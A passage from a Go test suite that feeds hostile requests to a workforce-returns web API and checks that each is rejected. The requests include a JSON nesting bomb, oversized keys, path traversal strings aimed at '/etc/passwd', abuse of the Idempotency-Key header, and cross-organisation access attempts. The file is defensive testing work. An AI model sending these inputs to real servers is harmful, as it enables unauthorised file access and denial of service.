		{name: "JSON nesting bomb at the top", contentType: httpapi.ContentTypeJSON,
			body: func(*hostileEnv) []byte { return []byte(strings.Repeat("[", 1_000_000)) }, status: 422, code: "bad_json"},
		{name: "duplicate JSON keys", contentType: httpapi.ContentTypeJSON,
			body: func(e *hostileEnv) []byte { return jsonWith(e.values, `"headcount":1`) }, status: 422, code: "duplicate_field"},
		{name: "JSON with 100,000 unknown keys", contentType: httpapi.ContentTypeJSON,
			body:   func(e *hostileEnv) []byte { return jsonWith(e.values, unknownMembers(100_000)) },
			status: 422, code: "too_many_fields", message: "more than 200 properties"},
		{name: "3 MB JSON key", contentType: httpapi.ContentTypeJSON,
			body:   func(e *hostileEnv) []byte { return jsonWith(e.values, `"`+big+`":1`) },
			status: 422, code: "unknown_field", absent: big[:100_000]},
		{name: "JSON array instead of an object", contentType: httpapi.ContentTypeJSON,
			body: func(e *hostileEnv) []byte { return []byte("[" + string(jsonOf(e.values)) + "]") }, status: 422, code: "bad_json"},
		{name: "a second JSON object after the first", contentType: httpapi.ContentTypeJSON,
			body: func(e *hostileEnv) []byte { return append(jsonOf(e.values), jsonOf(e.values)...) }, status: 422, code: "bad_json"},

		// Path parameters and periods.
		{name: "path traversal in the period", method: "GET", path: "/returns/{org}/..%2F..%2Fetc%2Fpasswd",
			status: 400, code: "invalid_period", absent: "root:"},
		{name: "path traversal in the organisation", method: "GET", path: "/returns/..%2F..%2F{other}/2025-26-Q1", status: 403},
		{name: "path traversal in the organisation, as admin", method: "GET", path: "/returns/..%2F{org}/2025-26-Q1", token: admin,
			status: 404, code: workforce.ENotFound},
		{name: "path traversal in the version", method: "GET", path: "/returns/{org}/2025-26-Q1/versions/..%2F1",
			status: 400, code: workforce.EBadRequest, message: "whole number"},
		{name: "version beyond int64", method: "GET", path: "/returns/{org}/2025-26-Q1/versions/99999999999999999999999",
			status: 400, code: workforce.EBadRequest},
		{name: "version 0", method: "GET", path: "/returns/{org}/2025-26-Q1/versions/0", status: 400, code: workforce.EBadRequest},
		{name: "path traversal in the metrics period", method: "GET", path: "/metrics/..%2F..%2F2025-26-Q1", token: leader,
			status: 400, code: "invalid_period"},
		{name: "month 13", method: "GET", path: "/rollups/2025-13", token: leader, status: 400, code: "invalid_month"},
		{name: "path traversal in the report edition", method: "GET", path: "/reports/2025-07?edition=..%2F..%2Fmanagement&format=xlsx",
			token: leader, status: 400, code: workforce.EBadRequest},
		{name: "calendar quarter in the body", contentType: httpapi.ContentTypeJSON,
			body: func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"period": "2025 Q1"})) }, status: 422, code: "invalid_period",
			message: "-Q"},
		{name: "quarter 5", contentType: "text/csv",
			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"period": "2025-26-Q5"})) }, status: 422, code: "invalid_period"},
		{name: "100 KB period", contentType: "text/csv",
			body: func(e *hostileEnv) []byte {
				return csvOf(e.with(map[string]string{"period": strings.Repeat("2025-26-Q1", 10_000)}))
			},
			status: 422, code: "value_too_long", absent: strings.Repeat("2025-26-Q1", 1000)},
		{name: "period filter that is not a quarter", method: "GET", path: "/returns?period=2025%20Q1", status: 400, code: "invalid_period"},
		{name: "template pre-filled with a traversal period", method: "GET", path: "/template?period=..%2F..%2F", status: 400, code: "invalid_period"},

		// Idempotency-Key abuse.
		{name: "Idempotency-Key of 256 characters", contentType: "text/csv", body: valid,
			headers: map[string]string{"Idempotency-Key": strings.Repeat("k", 256)}, status: 400, code: workforce.EBadRequest, message: "Idempotency-Key"},
		{name: "Idempotency-Key of 255 characters is accepted", fresh: true, contentType: "text/csv", body: valid,
			headers: map[string]string{"Idempotency-Key": strings.Repeat("k", 255)}, status: 201},
		{name: "Idempotency-Key with spaces", contentType: "text/csv", body: valid,
			headers: map[string]string{"Idempotency-Key": "my retry key"}, status: 400, code: workforce.EBadRequest, message: "Idempotency-Key"},
		{name: "Idempotency-Key with non-ASCII", contentType: "text/csv", body: valid,
			headers: map[string]string{"Idempotency-Key": "clé-1"}, status: 400, code: workforce.EBadRequest, message: "Idempotency-Key"},
		{name: "same Idempotency-Key, different body", fresh: true, contentType: httpapi.ContentTypeJSON,
			headers: map[string]string{"Idempotency-Key": "same-key-" + run},
			before: func(e *hostileEnv) {
				r, _ := e.h.submit(e.submitter, httpapi.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "same-key-" + run})
				mustStatus(e.h.t, r, 201)
			},
			body:   func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"notes": "changed"})) },
			status: 409, code: workforce.EConflict},
		{name: "replayed Idempotency-Key with another organisation's claim", fresh: true, contentType: httpapi.ContentTypeJSON,
			headers: map[string]string{"Idempotency-Key": "replay-" + run},
			before: func(e *hostileEnv) {
				tok, err := e.h.client.Token("replaying-user-"+run, e.org.Code, []string{"submitter"}, nil)
				if err != nil {
					e.h.t.Fatal(err)
				}
				r, _ := e.h.submit(tok, httpapi.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "replay-" + run})
				mustStatus(e.h.t, r, 201)
			},
			token: func(e *hostileEnv) string {
				tok, _ := e.h.client.Token("replaying-user-"+run, e.other.Code, []string{"submitter"}, nil)
				return tok
			},
			body:   func(e *hostileEnv) []byte { return jsonOf(e.values) },
			status: 403, code: workforce.EForbidden, absent: "submission_id"},
		{name: "subject and key that would collide with another's scope", fresh: true, contentType: httpapi.ContentTypeJSON,
			headers: map[string]string{"Idempotency-Key": "b#c" + run},
			before: func(e *hostileEnv) {
				tok, err := e.h.client.Token(run+"#b", e.org.Code, []string{"submitter"}, nil)
				if err != nil {
					e.h.t.Fatal(err)
				}
				r, _ := e.h.submit(tok, httpapi.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "c" + run})
				mustStatus(e.h.t, r, 201)
			},
			token: func(e *hostileEnv) string {
				tok, _ := e.h.client.Token(run, e.org.Code, []string{"submitter"}, nil)
				return tok
			},
			body: func(e *hostileEnv) []byte {
				return jsonOf(e.with(map[string]string{"notes": "a different return", workforce.KeyRevisionReason: "Notes added."}))
			},
			status: 201,
			check: func(t *testing.T, e *hostileEnv, r localclient.Response) {
				var rc workforce.Receipt
				if err := json.Unmarshal(r.Body, &rc); err != nil || rc.Version != 2 {
					t.Errorf("receipt %s, want version 2: another subject's key must not replay", r.Body)
				}
			}},

		// Whose data.
		{name: "submitter without an organisation lists returns", method: "GET", path: "/returns", token: noOrg,
			status: 403, code: workforce.EForbidden},
		{name: "submitter without an organisation lists a period", method: "GET", path: "/returns?period=2025-26-Q1", token: noOrg,
			status: 403, code: workforce.EForbidden},
		{name: "submitter without an organisation submits", token: noOrg, contentType: "text/csv", body: valid,
			status: 403, code: workforce.EForbidden},
		{name: "submitter without an organisation reads the register", method: "GET", path: "/organisations", token: noOrg,
			status: 403, code: workforce.EForbidden},
		{name: "another organisation in the body", contentType: httpapi.ContentTypeJSON,
			body: func(e *hostileEnv) []byte { return jsonOf(sampleFor(e.other, q1)) }, status: 403, code: workforce.EForbidden},
		{name: "another organisation in the body, lower case", contentType: "text/csv",
			body: func(e *hostileEnv) []byte {
				v := sampleFor(e.other, q1)
				v["org"] = strings.ToLower(e.other.Code)
				return csvOf(v)
			}, status: 403, code: workforce.EForbidden},
		{name: "another organisation in the path", method: "GET", path: "/returns/{other}/2025-26-Q1", status: 403, code: workforce.EForbidden},
		{name: "another organisation's version in the path", method: "GET", path: "/returns/{other}/2025-26-Q1/versions/1",
			status: 403, code: workforce.EForbidden},
		{name: "another organisation in the query", method: "GET", path: "/returns?org={other}", status: 403, code: workforce.EForbidden},
	}
}

func utf16LE(b []byte) []byte {
	out := []byte{0xFF, 0xFE}
	for _, c := range b {
		out = append(out, c, 0)
	}
	return out
}

func utf16BE(b []byte) []byte {
	out := []byte{0xFE, 0xFF}
	for _, c := range b {
		out = append(out, 0, c)
	}
	return out
}
